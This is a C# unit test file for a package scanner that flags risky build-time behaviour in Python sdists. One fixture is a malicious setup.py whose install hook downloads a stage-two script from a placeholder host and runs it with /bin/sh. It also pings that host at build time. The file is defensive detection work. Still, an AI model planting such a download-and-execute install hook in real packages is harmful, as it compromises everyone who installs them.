using TrustCheck.Artifacts.Analysis;
using TrustCheck.Artifacts.Capabilities;
using TrustCheck.Artifacts.Findings;
using TrustCheck.Artifacts.Metadata;
using TrustCheck.Artifacts.Surface;
using TrustCheck.TestKit.Artifacts;

namespace TrustCheck.Artifacts.Tests.Analysis;

/// <summary>What an sdist runs when pip builds it: setup.py hooks and code, in-tree backends — new ones weighed against the previous sdist.</summary>
public sealed class SdistAnalysisTests
{
    private const string PlainSetup = "from setuptools import setup\nsetup(name='demo', version='1.0')\n";

    [Fact]
    public void PlainSdist_HasNoFinding()
    {
        Assert.Empty(Analyze("1.1", ("setup.py", PlainSetup), ("demo/__init__.py", "X = 1\n")).Findings);
    }

    [Fact]
    public void CmdclassHookAddedInAPatchRelease_IsHigh_AndItsDownloadAtBuildTimeToo()
    {
        const string hooked = """
            import urllib.request, subprocess
            from setuptools import setup
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    install.run(self)
                    urllib.request.urlretrieve('https://x.example/stage2', '/tmp/s')
                    subprocess.call(['/bin/sh', '/tmp/s'])

            urllib.request.urlopen('https://x.example/ping')
            setup(name='demo', version='1.0.1', cmdclass={'install': PostInstall})

            """;
        var analysis = Analyze("1.0.1", ("setup.py", hooked));

        Assert.Equal(ArtifactSeverity.High, Assert.Single(analysis.Findings, f => f.Code == SurfaceCodes.InstallHook).Severity);
        // The hook's body runs at build time (setup.py), and it is new: its download-then-run is critical.
        Assert.Equal(ArtifactSeverity.Critical, Assert.Single(analysis.Findings, f => f.Code == CapabilityCodes.DownloadThenExecute).Severity);
        // Both the module-level ping and the hook's process start run at build time.
        var atBuild = analysis.Findings.Where(f => f.Code == CapabilityCodes.InstallTimeAction).ToList();
        Assert.Equal(2, atBuild.Count);
        Assert.All(atBuild, f => Assert.Equal(("setup-script", ArtifactSeverity.High), (f.Evidence["location"], f.Severity)));
    }

    [Fact]
    public void CmdclassTheProjectAlwaysHad_IsContext()
    {
        const string hooked = "from setuptools import setup\nfrom build_ext import BuildExt\nsetup(name='demo', cmdclass={'build_ext': BuildExt})\n";

        var analysis = ArtifactAnalyzer.Analyze(Input("1.1", ("setup.py", hooked)), Input("1.0", ("setup.py", hooked)));

        Assert.Equal(ArtifactSeverity.Info, Assert.Single(analysis.Findings, f => f.Code == SurfaceCodes.InstallHook).Severity);
    }

    [Fact]
    public void InTreeBuildBackendAdded_IsHigh()
    {
        var analysis = Analyze("1.1", ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n"), ("_build/backend.py", "def build_wheel(d, c=None, m=None):\n    return 'x.whl'\n"));

        Assert.Equal(ArtifactSeverity.High, Assert.Single(analysis.Findings, f => f.Code == SurfaceCodes.InTreeBuildBackend).Severity);
    }

    [Fact]
    public void SdistWhosePkgInfoNamesAnotherVersion_IsAMetadataMismatch()
    {
        var sdist = SdistBuilder.Build("demo", "1.1", ("setup.py", PlainSetup));

        var analysis = ArtifactAnalyzer.Analyze(new ArtifactInput("demo-1.2.tar.gz", sdist));

        Assert.Contains(analysis.Findings, f => f.Code == MetadataCodes.FileMismatch && f.Severity == ArtifactSeverity.High);
    }

    private static ArtifactAnalysis Analyze(string version, params (string Path, string Content)[] members) =>
        ArtifactAnalyzer.Analyze(Input(version, members), Input("1.0", ("setup.py", PlainSetup), ("demo/__init__.py", "X = 1\n")));

    private static ArtifactInput Input(string version, params (string Path, string Content)[] members) =>
        new($"demo-{version}.tar.gz", SdistBuilder.Build("demo", version, members));
}
